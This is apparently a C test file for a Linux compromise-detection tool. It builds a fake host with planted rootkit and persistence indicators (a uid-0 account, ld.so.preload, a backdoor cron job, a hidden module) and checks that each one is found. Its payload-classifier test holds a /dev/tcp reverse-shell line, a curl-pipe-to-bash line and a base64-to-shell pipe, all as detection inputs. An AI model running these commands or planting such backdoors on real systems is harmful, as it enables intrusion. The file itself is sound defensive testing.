/*
 * test_check.c - the compromise check (check/) on a fake host: a /proc of
 * its own (processes from a deleted /tmp file, a memfd, a kernel-thread
 * name, LD_PRELOAD from /dev/shm, a kernel thread, a shell and the
 * deleted program owning listeners, a listener nobody owns), a /sys with
 * a module hidden from /proc/modules, and a root tree (a uid-0 account, an
 * empty password, ld.so.preload, a new cron file with a /tmp payload, an
 * old one, authorized_keys): each gives exactly its finding, and nothing
 * else does.  The payload and place classifiers on their own; and random
 * bytes in every file the check reads never crash it and always give
 * valid JSON.
 */
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>
#include <jansson.h>

#include "check/check.h"
#include "check/check_int.h"

static char T[64];

static void mkdirs(const char *fmt, ...)
{
	char p[1024];
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(p, sizeof(p), fmt, ap);
	va_end(ap);
	for (char *s = p + 1; *s; s++)
		if (*s == '/') {
			*s = '\0';
			mkdir(p, 0755);
			*s = '/';
		}
	mkdir(p, 0755);
}

/* Write n bytes (n = -1: strlen) to T/rel, making its directory. */
static void put(const char *rel, const void *data, long n)
{
	char p[1024], d[1024];
	int fd;

	snprintf(p, sizeof(p), "%s/%s", T, rel);
	snprintf(d, sizeof(d), "%s", p);
	*strrchr(d, '/') = '\0';
	mkdirs("%s", d);
	fd = open(p, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	assert_true(fd >= 0);
	if (n < 0)
		n = (long)strlen(data);
	assert_int_equal(write(fd, data, (size_t)n), n);
	close(fd);
}

static void link_to(const char *target, const char *rel)
{
	char p[1024], d[1024];

	snprintf(p, sizeof(p), "%s/%s", T, rel);
	snprintf(d, sizeof(d), "%s", p);
	*strrchr(d, '/') = '\0';
	mkdirs("%s", d);
	unlink(p);
	assert_int_equal(symlink(target, p), 0);
}

static void proc(unsigned pid, const char *comm, unsigned long flags, const char *exe,
		 const char *cmdline, size_t cmdlen, const char *environ, size_t envlen)
{
	char rel[128], buf[512];

	snprintf(rel, sizeof(rel), "proc/%u/stat", pid);
	snprintf(buf, sizeof(buf), "%u (%s) S 1 %u %u 0 -1 %lu 0 0 0 0 0 0 0 0 20 0 1 0 100 "
		 "0 0\n", pid, comm, pid, pid, flags);
	put(rel, buf, -1);
	snprintf(rel, sizeof(rel), "proc/%u/status", pid);
	put(rel, "Name:\tx\nUid:\t0\t0\t0\t0\nGid:\t0\t0\t0\t0\n", -1);
	if (exe) {
		snprintf(rel, sizeof(rel), "proc/%u/exe", pid);
		link_to(exe, rel);
	}
	snprintf(rel, sizeof(rel), "proc/%u/cmdline", pid);
	put(rel, cmdline, (long)cmdlen);
	snprintf(rel, sizeof(rel), "proc/%u/environ", pid);
	put(rel, environ, (long)envlen);
	snprintf(rel, sizeof(rel), "proc/%u/fd", pid);
	mkdirs("%s/%s", T, rel);
}

static void set_mtime(const char *rel, time_t t)
{
	char p[1024];
	struct timeval tv[2] = { { t, 0 }, { t, 0 } };

	snprintf(p, sizeof(p), "%s/%s", T, rel);
	assert_int_equal(utimes(p, tv), 0);
}

static void build_fake_host(void)
{
	static const char env400[] = "A=1\0LD_PRELOAD=/dev/shm/.x/hook.so\0B=2";

	/* processes */
	proc(100, "bash", 0, "/usr/bin/bash", "bash\0", 5, "HOME=/root", 10);
	link_to("socket:[5003]", "proc/100/fd/4");
	link_to("/dev/null", "proc/100/fd/0");
	proc(200, "evil", 0, "/tmp/hn-fake-evil (deleted)", "./evil\0", 7, "", 0);
	link_to("socket:[5001]", "proc/200/fd/3");
	proc(300, "kworker/0:1", 0, "/usr/bin/python3", "[kworker/0:1]\0", 14, "", 0);
	proc(400, "sleep", 0, "/usr/bin/sleep", "sleep\0" "60\0", 9, env400, sizeof(env400));
	proc(500, "kworker/1:0", 0x00200000, NULL, "", 0, "", 0);
	proc(700, "payload", 0, "/memfd:payload (deleted)", "payload\0", 8, "", 0);
	/* broken ones: no ')' ; ')' last; numbers that overflow; no exe */
	put("proc/600/stat", "600 garbage without parens", -1);
	put("proc/601/stat", "601 (a) b)", -1);
	put("proc/602/stat", "602 (x) S 1 2 3 4 5 99999999999999999999999999999999", -1);
	put("proc/603/stat", "603 ((((()))))) S 1 2 3 4 5 0 0 0", -1);
	link_to("socket:[notanumber]", "proc/603/fd/1");
	link_to("socket:[99999999999999999999999]", "proc/603/fd/2");
	/* sockets */
	put("proc/net/tcp",
	    "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  "
	    "timeout inode\n"
	    "   0: 0100007F:115C 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0"
	    "        0 5001 1 0000000000000000 100 0 0 10 0\n"
	    "   1: 00000000:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0"
	    "        0 5002 1 0000000000000000 100 0 0 10 0\n"
	    "   2: 0100007F:0050 0100007F:C350 01 00000000:00000000 00:00000000 00000000     0"
	    "        0 5009 1 0000000000000000 100 0 0 10 0\n"
	    "xx\n   3: ZZZZZZZZ:0050 00000000:0000 0A\n"
	    "   4: 0100007F:FFFFFFFFF 00000000:0000 0A 0 0 0 0 0 123\n"
	    "   5: 0100007F:0050 00000000:0000 0A 0 0 0 0 0 0\n", -1);
	put("proc/net/tcp6",
	    "  sl  local_address                         remote_address                        st\n"
	    "   0: 00000000000000000000000001000000:0016 00000000000000000000000000000000:0000 "
	    "0A 00000000:00000000 00:00000000 00000000     0        0 5003 1 0 100 0 0 10 0\n",
	    -1);
	put("proc/net/udp", "header\n\x01\x02\x03 garbage\n", -1);
	put("proc/sys/kernel/osrelease", "6.0-test\n", -1);
	put("proc/modules", "goodmod 16384 0 - Live 0xffffffffc0000000\n"
	    "evilmod 16384 0 - Live 0xffffffffc0001000 (OE)\nbadline\n\n", -1);
	put("lib/modules/6.0-test/kernel/drivers/x/goodmod.ko", "\x7f" "ELF", 4);
	put("sys/module/goodmod/initstate", "live\n", -1);
	put("sys/module/hiddenmod/initstate", "live\n", -1);
	mkdirs("%s/sys/module/builtin", T);
	/* the root's persistence */
	put("etc/passwd", "root:x:0:0:root:/root:/bin/bash\n"
	    "toor:x:0:0::/root:/bin/sh\nalice::1000:1000::/home/alice:/bin/bash\n"
	    "broken line\n::::::\n", -1);
	put("etc/shadow", "root:$6$abc:19000:0:99999:7:::\nbob::19000:0:99999:7:::\n", -1);
	put("etc/ld.so.preload", "# hooks\n/usr/lib/libevil.so\n", -1);
	put("etc/cron.d/backdoor", "* * * * * root /tmp/.x/run >/dev/null 2>&1\n", -1);
	put("etc/cron.d/old", "0 1 * * * root /usr/bin/true\n", -1);
	set_mtime("etc/cron.d/old", time(NULL) - 30 * 86400);
	put("etc/cron.d/cleanup", "0 1 * * * root find /tmp/ -mtime +7 -delete\n", -1);
	set_mtime("etc/cron.d/cleanup", time(NULL) - 30 * 86400);
	put("home/alice/.ssh/authorized_keys", "# mine\nssh-ed25519 AAAAC3Nz alice@x\n", -1);
	put("etc/pam.d/weird", "auth [success=1 default=ignore /lib/evil.so\n@include\n\n", -1);
	put("suid/tool", "#!/bin/sh\n", -1);
	{
		char p[1024];
		snprintf(p, sizeof(p), "%s/suid/tool", T);
		assert_int_equal(chmod(p, 04755), 0);
	}
}

static int setup(void **state)
{
	(void)state;
	snprintf(T, sizeof(T), "/tmp/hn-test-check-XXXXXX");
	if (!mkdtemp(T))
		return -1;
	return 0;
}

static int teardown(void **state)
{
	char cmd[128];

	(void)state;
	if (!strncmp(T, "/tmp/hn-test-check-", 19)) {
		snprintf(cmd, sizeof(cmd), "rm -rf '%s'", T);
		if (system(cmd) != 0)
			return -1;
	}
	return 0;
}

static struct hn_check_report *run(bool suid)
{
	char proc_dir[128], sys_dir[128], suid_dir[128], err[256];
	const char *roots[1] = { suid_dir };
	struct hn_check_opts o = { 0 };
	struct hn_check_report *r = NULL;

	snprintf(proc_dir, sizeof(proc_dir), "%s/proc", T);
	snprintf(sys_dir, sizeof(sys_dir), "%s/sys", T);
	snprintf(suid_dir, sizeof(suid_dir), "%s/suid", T);
	o.root = T;
	o.proc = proc_dir;
	o.sys = sys_dir;
	o.no_default_iocs = true;
	o.no_suid = !suid;
	o.suid_roots = roots;
	o.nsuid_roots = 1;
	assert_int_equal(hn_check_run(&o, &r, err, sizeof(err)), 0);
	return r;
}

/* The finding of rule with pid (0: any) or path (NULL: any); NULL if none. */
static const struct hn_check_finding *find(const struct hn_check_report *r, const char *rule,
					   uint32_t pid, const char *path)
{
	for (size_t i = 0; i < r->nfindings; i++) {
		const struct hn_check_finding *f = &r->findings[i];
		if (strcmp(f->rule, rule) || (pid && f->pid != pid))
			continue;
		if (path && (!f->path || strcmp(f->path, path)))
			continue;
		return f;
	}
	return NULL;
}

static const char *ev(const struct hn_check_finding *f, const char *key)
{
	for (int k = 0; k < f->nev; k++)
		if (!strcmp(f->ev[k].key, key))
			return f->ev[k].value;
	return NULL;
}

static const struct hn_check_entry *entry(const struct hn_check_report *r, const char *path)
{
	for (size_t i = 0; i < r->nentries; i++)
		if (!strcmp(r->entries[i].path, path))
			return &r->entries[i];
	return NULL;
}

static void fake_host_findings(void **state)
{
	struct hn_check_report *r;
	const struct hn_check_finding *f;
	const struct hn_check_entry *e;
	struct hn_strbuf sb;
	char path[256];
	json_t *j;

	(void)state;
	build_fake_host();
	r = run(true);

	/* processes */
	f = find(r, "proc.deleted_exe", 200, NULL);
	assert_non_null(f);
	assert_int_equal(f->sev, HN_CHECK_HIGH);
	assert_string_equal(f->path, "/tmp/hn-fake-evil");
	f = find(r, "proc.memfd_exe", 700, NULL);
	assert_non_null(f);
	assert_int_equal(f->sev, HN_CHECK_MEDIUM);
	f = find(r, "proc.kthread_name", 300, NULL);
	assert_non_null(f);
	assert_true(f->strong);
	f = find(r, "proc.ld_preload", 400, NULL);
	assert_non_null(f);
	assert_int_equal(f->sev, HN_CHECK_HIGH);
	assert_string_equal(ev(f, "environment"), "LD_PRELOAD=/dev/shm/.x/hook.so");
	assert_null(find(r, "proc.kthread_name", 500, NULL));   /* a real kernel thread */
	for (size_t i = 0; i < r->nfindings; i++) {
		assert_int_not_equal(r->findings[i].pid, 500);
		assert_true(r->findings[i].pid < 600 || r->findings[i].pid > 603);
	}
	assert_int_equal(r->stats.kernel_threads, 1);
	assert_int_equal(r->stats.processes, 6);   /* 100 200 300 400 700 603 */

	/* sockets: the deleted /tmp program's listener, the shell's, a hidden one */
	f = find(r, "net.listener", 200, NULL);
	assert_non_null(f);
	assert_int_equal(f->sev, HN_CHECK_CRITICAL);
	assert_int_equal(f->port, 4444);
	assert_string_equal(ev(f, "socket"), "tcp 127.0.0.1:4444");
	f = find(r, "net.listener", 100, NULL);
	assert_non_null(f);
	assert_int_equal(f->sev, HN_CHECK_HIGH);
	assert_int_equal(f->port, 22);
	assert_string_equal(ev(f, "socket"), "tcp6 [::1]:22");
	f = find(r, geteuid() == 0 ? "net.hidden_listener" : "net.unattributed", 0, NULL);
	assert_non_null(f);
	assert_int_equal(f->port, 8080);
	if (geteuid() == 0)
		assert_true(f->strong);
	assert_int_equal(r->nsocks, 3);   /* the connected one and the broken lines left out */

	/* persistence */
	f = find(r, "persist.uid0", 0, "/etc/passwd");
	assert_non_null(f);
	assert_string_equal(ev(f, "account"), "toor");
	f = find(r, "persist.empty_password", 0, "/etc/passwd");
	assert_non_null(f);
	assert_string_equal(ev(f, "account"), "alice");
	f = find(r, "persist.empty_password", 0, "/etc/shadow");
	assert_non_null(f);
	assert_string_equal(ev(f, "account"), "bob");
	f = find(r, "persist.ld_so_preload", 0, "/etc/ld.so.preload");
	assert_non_null(f);
	assert_int_equal(f->sev, HN_CHECK_CRITICAL);
	assert_string_equal(ev(f, "library"), "/usr/lib/libevil.so");
	f = find(r, "persist.payload", 0, "/etc/cron.d/backdoor");
	assert_non_null(f);
	assert_int_equal(f->sev, HN_CHECK_HIGH);   /* new, and runs from /tmp */
	assert_true(f->is_new);
	assert_non_null(find(r, "persist.new", 0, "/etc/cron.d/backdoor"));
	assert_null(find(r, "persist.payload", 0, "/etc/cron.d/old"));
	assert_null(find(r, "persist.new", 0, "/etc/cron.d/old"));
	assert_null(find(r, "persist.payload", 0, "/etc/cron.d/cleanup"));   /* find /tmp */
	e = entry(r, "/etc/cron.d/old");
	assert_non_null(e);
	assert_false(e->is_new);
	assert_string_equal(e->kind, "cron");
	assert_string_equal(e->user, "root");
	e = entry(r, "/home/alice/.ssh/authorized_keys");
	assert_non_null(e);
	assert_true(e->is_new);
	assert_string_equal(e->kind, "authorized_keys");
	assert_string_equal(e->note, "1 key");
	assert_non_null(entry(r, "/etc/pam.d/weird"));
	f = find(r, "persist.kmod_nofile", 0, "/proc/modules:evilmod");
	assert_non_null(f);
	assert_string_equal(ev(f, "taint"), "(OE)");
	assert_null(find(r, "persist.kmod_nofile", 0, "/proc/modules:goodmod"));
	e = entry(r, "/lib/modules/6.0-test/kernel/drivers/x/goodmod.ko");
	assert_non_null(e);
	assert_string_equal(e->kind, "kernel_module");
	f = find(r, "persist.kmod_hidden", 0, "/sys/module/hiddenmod");
	assert_non_null(f);
	assert_true(f->strong);
	assert_null(find(r, "persist.kmod_hidden", 0, "/sys/module/builtin"));
	assert_null(find(r, "persist.kmod_hidden", 0, "/sys/module/goodmod"));

	/* setuid: in /tmp, no package database under the root */
	snprintf(path, sizeof(path), "%s/suid/tool", T);
	f = find(r, "suid.outside", 0, path);
	assert_non_null(f);
	assert_int_equal(f->sev, HN_CHECK_HIGH);
	assert_int_equal(r->stats.suid_found, 1);

	assert_non_null(find(r, "ioc.none", 0, NULL));
	assert_non_null(find(r, "yara.unavailable", 0, NULL));
	assert_int_equal(r->verdict, HN_CHECK_COMPROMISED);
	assert_int_equal(hn_check_exit_code(r->verdict), 4);
	for (size_t i = 0; i < r->nfindings; i++) {
		const struct hn_check_finding *x = &r->findings[i];
		assert_int_equal(x->driver, x->sev == HN_CHECK_CRITICAL ||
						    (x->sev == HN_CHECK_HIGH && x->strong));
		/* ordered by family, then worst first */
		if (i)
			assert_true(r->findings[i - 1].family < x->family ||
				    (r->findings[i - 1].family == x->family &&
				     r->findings[i - 1].sev >= x->sev));
	}

	hn_strbuf_init(&sb);
	assert_int_equal(hn_check_json(r, &sb), 0);
	j = json_loads(sb.buf, 0, NULL);
	assert_non_null(j);
	assert_string_equal(json_string_value(json_object_get(j, "verdict")), "compromised");
	assert_int_equal(json_array_size(json_object_get(j, "findings")), r->nfindings);
	assert_int_equal(json_array_size(json_object_get(j, "persistence")), r->nentries);
	json_decref(j);
	hn_strbuf_release(&sb);
	hn_check_report_free(r);
}

/* A bound on the walk is reported, not silent. */
static void suid_bounds_reported(void **state)
{
	char dir[256], err[256];
	const char *roots[1] = { dir };
	struct hn_check_opts o = { 0 };
	struct hn_check_report *r = NULL;
	bool said = false;

	(void)state;
	for (int i = 0; i < 20; i++) {
		char rel[64];
		snprintf(rel, sizeof(rel), "many/f%02d", i);
		put(rel, "x", 1);
	}
	snprintf(dir, sizeof(dir), "%s/many", T);
	o.root = T;
	o.proc = dir;          /* no processes there */
	o.no_default_iocs = true;
	o.suid_roots = roots;
	o.nsuid_roots = 1;
	o.suid_max_files = 5;
	assert_int_equal(hn_check_run(&o, &r, err, sizeof(err)), 0);
	assert_true(r->stats.suid_files_bound);
	assert_false(r->stats.suid_time_bound);
	assert_int_equal(r->stats.suid_files, 5);
	for (size_t i = 0; i < r->nskipped; i++)
		said |= strstr(r->skipped[i], "bound of 5 files") != NULL;
	assert_true(said);
	hn_check_report_free(r);
}

static void payload_lines(void **state)
{
	char line[256];
	const char *what;

	(void)state;
	assert_true(chk_payload_line("* * * * * root /tmp/.x/run\n", 27, line, sizeof(line),
				     &what));
	assert_string_equal(what, "a program run from a /tmp-like place");
	assert_string_equal(line, "* * * * * root /tmp/.x/run");
	assert_false(chk_payload_line("0 1 * * * root find /tmp/ -delete\n", 34, line,
				      sizeof(line), &what));
	assert_false(chk_payload_line("# /tmp/x\nPrivateTmp=yes\n", 24, line, sizeof(line),
				      &what));
	assert_true(chk_payload_line("ExecStart=/var/tmp/miner -o x\n", 30, line, sizeof(line),
				     &what));
	assert_true(chk_payload_line("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 38, line,
				     sizeof(line), &what));
	assert_string_equal(what, "a /dev/tcp connection");
	assert_true(chk_payload_line("curl -s http://x/y | bash", 25, line, sizeof(line),
				     &what));
	assert_string_equal(what, "a download piped to a shell");
	assert_true(chk_payload_line("echo aGk= | base64 -d | sh", 26, line, sizeof(line),
				     &what));
	assert_true(chk_payload_line("export LD_PRELOAD=/x.so", 23, line, sizeof(line), &what));
	assert_false(chk_payload_line("export PATH=/usr/local/cuda/bin:$PATH", 37, line,
				      sizeof(line), &what));
	assert_false(chk_payload_line("", 0, line, sizeof(line), &what));

	assert_int_equal(chk_place("/tmp/x") & CHK_PLACE_TMP, CHK_PLACE_TMP);
	assert_int_equal(chk_place("/dev/shm/x") & CHK_PLACE_TMP, CHK_PLACE_TMP);
	assert_int_equal(chk_place("/usr/bin/x"), CHK_PLACE_SYSTEM);
	assert_int_equal(chk_place("/srv/.hidden/x"), CHK_PLACE_HIDDEN);
	assert_int_equal(chk_place("/srv/.hidden"), 0);   /* the file itself */
	assert_int_equal(chk_place("/root/.cargo/bin/rg"), CHK_PLACE_TOOLDIR);
	assert_int_equal(chk_place("/home/a/.x/y"), CHK_PLACE_HIDDEN);
	assert_int_equal(chk_place("/a/./b/../c"), 0);
	assert_int_equal(chk_place("relative/x"), 0);
}

static uint64_t rng = 0x9e3779b97f4a7c15ull;

static uint64_t next(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return rng;
}

/* Random bytes (some lines, some structure) in every file read. */
static void garbage(char *buf, size_t n)
{
	static const char pieces[] = " ():\n\0/[]0123456789ABCDEF-socket:LD_PRELOAD=";
	for (size_t i = 0; i < n; i++) {
		uint64_t v = next();
		buf[i] = (v & 3) ? pieces[(v >> 8) % (sizeof(pieces) - 1)] : (char)(v >> 16);
	}
}

static void garbage_never_crashes(void **state)
{
	static const char *const files[] = {
		"proc/100/stat", "proc/100/status", "proc/100/cmdline", "proc/100/environ",
		"proc/200/stat", "proc/200/environ", "proc/net/tcp", "proc/net/tcp6",
		"proc/net/udp", "proc/net/udp6", "proc/net/raw", "proc/net/packet",
		"proc/modules", "proc/self/mountinfo", "proc/sys/kernel/osrelease",
		"etc/passwd", "etc/shadow", "etc/ld.so.preload", "etc/cron.d/backdoor",
		"etc/pam.d/weird", "home/alice/.ssh/authorized_keys", "var/lib/dpkg/status",
		"var/lib/dpkg/info/x.list", "var/lib/dpkg/info/x.md5sums",
	};
	static char buf[70000];

	(void)state;
	build_fake_host();
	for (int round = 0; round < 40; round++) {
		struct hn_check_report *r;
		struct hn_strbuf sb;
		json_t *j;
		for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
			size_t n = (size_t)(next() % (round % 4 == 3 ? sizeof(buf) : 600));
			garbage(buf, n);
			put(files[i], buf, (long)n);
		}
		/* a link target of junk too */
		garbage(buf, 40);
		buf[40] = '\0';
		for (char *p = buf; *p; p++)
			if (*p == '\0' || *p == '\n')
				*p = 'x';
		link_to(buf[0] ? buf : "x", "proc/100/fd/9");
		r = run(round % 8 == 0);
		hn_strbuf_init(&sb);
		assert_int_equal(hn_check_json(r, &sb), 0);
		j = json_loads(sb.buf, 0, NULL);
		assert_non_null(j);
		json_decref(j);
		hn_strbuf_release(&sb);
		hn_check_report_free(r);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(payload_lines),
		cmocka_unit_test_setup_teardown(fake_host_findings, setup, teardown),
		cmocka_unit_test_setup_teardown(suid_bounds_reported, setup, teardown),
		cmocka_unit_test_setup_teardown(garbage_never_crashes, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
